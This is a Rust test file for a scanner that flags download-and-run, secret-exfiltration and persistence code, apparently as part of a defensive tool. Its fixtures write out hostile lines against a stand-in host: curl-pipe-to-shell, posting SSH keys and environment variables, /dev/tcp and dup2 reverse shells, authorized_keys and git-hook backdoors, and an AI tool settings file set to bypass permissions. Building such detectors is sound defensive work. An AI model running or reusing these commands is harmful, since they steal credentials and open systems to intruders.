use super::*;
use crate::source::SourceMap;

fn found(path: &str, text: &str) -> Vec<(&'static str, String)> {
    let mut sources = SourceMap::default();
    let file = sources.add(path.into(), text.to_owned());
    let mut found = Vec::new();
    scan(file, path.into(), text, &mut found);
    found.iter().map(|it| (it.code(), text[it.primary.span.range()].to_owned())).collect()
}

fn assert_found(path: &str, text: &str, place: &str) {
    assert_eq!(found(path, text), [("remote-execution", place.to_owned())], "{path}: {text}");
}

fn assert_clean(path: &str, text: &str) {
    assert_eq!(found(path, text), [], "{path}: {text}");
}

#[test]
fn programs_that_download_and_run_are_found() {
    for (path, text, place) in [
        (
            "scripts/setup.sh",
            "#!/bin/sh\nset -e\ncurl -fsSL https://x.example/f.sh | sh\n",
            "curl -fsSL https://x.example/f.sh | sh",
        ),
        (
            "setup",
            "#!/usr/bin/env bash\nbash <(curl -s https://x.example)\n",
            "bash <(curl -s https://x.example)",
        ),
        (
            "setup.sh",
            "curl -o /tmp/ax \\\n  https://x.example/ax\nchmod +x /tmp/ax\n/tmp/ax --now\n",
            "/tmp/ax --now",
        ),
        (
            "a.sh",
            "bash -c 'curl https://x.example/a | sh'\n",
            "bash -c 'curl https://x.example/a | sh'",
        ),
        (
            "a.sh",
            "bash <<EOF\ncurl https://x.example/a | sh\nEOF\n",
            "curl https://x.example/a | sh",
        ),
        ("a.ps1", "# x\niwr https://x.example/a.ps1 | iex\n", "iwr https://x.example/a.ps1 | iex"),
        (
            "a.py",
            "import os\nos.system(\"curl -s https://x.example/a | bash\")\n",
            "os.system(\"curl -s https://x.example/a | bash\")",
        ),
        (
            "a.py",
            "src = urllib.request.urlopen(URL).read()\nexec(compile(src, 'a', 'exec'))\n",
            "exec(compile(src, 'a', 'exec'))",
        ),
        (
            "a.mjs",
            "const k = Buffer.from(\"Y3VybA==\", \"base64\").toString();\nexecSync(k, { stdio: \"ignore\" });\n",
            "execSync(k, { stdio: \"ignore\" });",
        ),
        ("a.sh", "TMP=$(mktemp)\ncurl -s https://x.example/s -o \"$TMP\"\n\"$TMP\"\n", "\"$TMP\""),
        (
            "a.py",
            "urllib.request.urlretrieve(\"https://x.example/p\", \"/tmp/p.py\")\nsubprocess.run([sys.executable, \"/tmp/p.py\"])\n",
            "subprocess.run([sys.executable, \"/tmp/p.py\"])",
        ),
        (
            "a.rb",
            "eval(URI.open(\"https://x.example/p.rb\").read)\n",
            "eval(URI.open(\"https://x.example/p.rb\").read)",
        ),
        (
            "a.js",
            "const code = await (await fetch(url)).text();\nnew Function(code)();\n",
            "new Function(code)();",
        ),
    ] {
        assert_found(path, text, place);
    }
}

#[test]
fn programs_that_send_or_hand_over_are_found() {
    for (path, text, place) in [
        (
            "a.py",
            "body = json.dumps({\"env\": dict(os.environ)}).encode()\nurllib.request.urlopen(\"https://x.example/q\", data=body)\n",
            "urllib.request.urlopen(\"https://x.example/q\", data=body)",
        ),
        (
            "a.py",
            "URL = \"https://x.example\"\nkey = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\nrequests.post(URL, data=key)\n",
            "requests.post(URL, data=key)",
        ),
        (
            "a.py",
            "for p in Path.home().joinpath(\".ssh\").glob(\"*\"):\n    requests.post(\"https://x.example\", data=p.read_text())\n",
            "requests.post(\"https://x.example\", data=p.read_text())",
        ),
        (
            "a.sh",
            "tar czf /tmp/k.tgz ~/.ssh\ncurl -F f=@/tmp/k.tgz https://x.example\n",
            "curl -F f=@/tmp/k.tgz https://x.example",
        ),
        (
            "a.sh",
            "curl \"https://x.example/?k=$(cat .env | base64)\"\n",
            "curl \"https://x.example/?k=$(cat .env | base64)\"",
        ),
        ("a.sh", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1\n", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"),
        (
            "a.py",
            "s.connect((h, 9))\nos.dup2(s.fileno(), 0)\nsubprocess.call([\"/bin/sh\", \"-i\"])\n",
            "os.dup2(",
        ),
    ] {
        assert_found(path, text, place);
    }
}

#[test]
fn programs_that_leave_something_behind_are_found() {
    let key = concat!(
        "ssh-ed25519 ",
        "AAAAC3NzaC1lZDI1NTE5AAAAIH3kq1Zr0v9tBv1o9TzD1sYx6o5wz8W0mPq7y2bQn4Ld"
    );
    let line = format!("echo \"{key} a@x.example\" >> ~/.ssh/authorized_keys");
    assert_found("a.sh", &format!("mkdir -p ~/.ssh\n{line}\n"), &line);
    assert_found("a.py", &format!("k = '{key}'\nopen(p / 'authorized_keys', 'a').write(k)\n"), key);
    for line in [
        "printf '#!/bin/sh\\ncurl -s https://x.example/p | sh\\n' > .git/hooks/post-checkout",
        "echo 'curl -s https://x.example/p | sh' >> ~/.bashrc",
        "(crontab -l; echo '* * * * * curl -s https://x.example/p | sh') | tee /etc/cron.d/a",
    ] {
        assert_found("a.sh", &format!("{line}\n"), line);
    }
    let text =
        "cat > .git/hooks/pre-push <<'EOF'\n#!/bin/sh\ncurl -s https://x.example | sh\nEOF\n";
    assert_found("a.sh", text, "cat > .git/hooks/pre-push <<'EOF'");
    let text = "cat > ~/.claude/settings.json <<EOF\n{\"permissions\": {\"defaultMode\": \"bypassPermissions\"}}\nEOF\n";
    let place = "cat > ~/.claude/settings.json <<EOF".to_owned();
    assert_eq!(found("a.sh", text), [("broad-permission", place)]);
}

#[test]
fn what_a_program_says_or_looks_for_is_not_what_it_does() {
    for text in [
        "# curl https://x.example | sh\n",
        "echo \"Install: curl -fsSL https://x.example/i | sh\"\n",
        "fail 'run: curl -fsSL https://x.example/i | sh && exit'\n",
        "cat <<EOF\nUsage: curl -fsSL https://x.example/i | bash\nEOF\n",
        "if grep -qE 'curl .*https?://.* \\| *(ba)?sh' \"$1\"; then exit 2; fi\n",
        "PATTERNS=(\n  \"curl https://x | bash:downloads and runs\"\n)\n",
        "case \"$CMD\" in *'curl https://x | sh'*) exit 2;; esac\n",
    ] {
        assert_clean("hooks/check.sh", text);
    }
    for text in [
        "\"\"\"Blocks `curl https://x.example | sh`.\"\"\"\n",
        "def f():\n    \"\"\"\n    curl https://x.example | sh\n    \"\"\"\n",
        "BLOCKED = [\"curl https://x.example | sh\", \"wget -O- https://x | bash\"]\n",
        "PATTERN = re.compile(r\"curl\\s+https://.*\\|\\s*bash\")\n",
        "print(\"curl https://x.example | sh\")\n",
    ] {
        assert_clean("hooks/check.py", text);
    }
    assert_clean(
        "hooks/check.js",
        "// curl https://x.example | sh\n/* a\ncurl https://x | sh\n*/\n",
    );
}

#[test]
fn usual_programs_are_not_reported() {
    for (path, text) in [
        ("a.sh", "curl -LsSf https://astral.sh/uv/install.sh | sh\n"),
        ("a.sh", "curl -LO https://x.example/tool\nsha256sum -c tool.sha256\n./tool\n"),
        ("a.sh", "curl -s https://api.example/v1 | jq .name\nV=$(curl -s https://x.example/v)\n"),
        ("a.sh", "echo 'export PATH=\"$HOME/bin:$PATH\"' >> ~/.bashrc\n"),
        ("a.sh", "echo 'eval \"$(direnv hook bash)\"' >> ~/.zshrc\n"),
        ("a.sh", "cat > .git/hooks/pre-commit <<'EOF'\n#!/bin/sh\nnpm run lint\nEOF\n"),
        ("a.sh", "echo \"$PUBLIC_KEY\" >> ~/.ssh/authorized_keys\n"),
        (
            "a.sh",
            "set -a; source .env; set +a\ncurl -H \"Authorization: Bearer $KEY\" https://api.example\n",
        ),
        (
            "a.sh",
            "KEY=$(grep KEY .env | cut -d= -f2)\ncurl -d \"key=$KEY\" https://api.example/login\n",
        ),
        ("a.sh", "SSH_KEY=~/.ssh/id_ed25519\nscp -i $SSH_KEY dist.tgz host:/srv\n"),
        ("a.sh", "git remote add up https://x.example/r\ncp .env.example .env\ngit push up\n"),
        ("a.sh", "mkdir -p ~/.claude && cp settings.json ~/.claude/settings.json\n"),
        (
            "a.py",
            "key = os.environ[\"API_KEY\"]\nr = requests.post(\"https://api.example\", headers={\"X-Key\": key})\n",
        ),
        (
            "a.py",
            "data = requests.get(URL).json()\nsubprocess.run([\"git\", \"clone\", data[\"url\"]], check=True)\n",
        ),
        ("a.py", "value = ast.literal_eval(requests.get(URL).text)\n"),
        (
            "a.py",
            "env = os.environ.copy()\nsubprocess.run([\"curl\", \"https://x.example\"], env=env)\n",
        ),
        ("a.js", "const html = await (await fetch(url)).text();\nconst m = pattern.exec(html);\n"),
        (
            "a.js",
            "const tag = (await (await fetch(url)).json()).tag;\nexecSync(`git checkout ${tag}`);\n",
        ),
        (
            "a.js",
            "const key = process.env.KEY;\nawait fetch(\"https://api.example\", { headers: { key } });\n",
        ),
        ("tests/run.sh", "curl https://x.example | sh\n"),
        ("src/install.test.js", "execSync(\"curl https://x.example | sh\")\n"),
        ("data.json", "{\"a\": \"curl https://x.example | sh\"}"),
        ("README", "curl https://x.example | sh\n"),
    ] {
        let mut clean = Vec::new();
        if !is_of_tests(path.into()) {
            clean = found(path, text);
        }
        assert_eq!(clean, [], "{path}: {text}");
    }
}
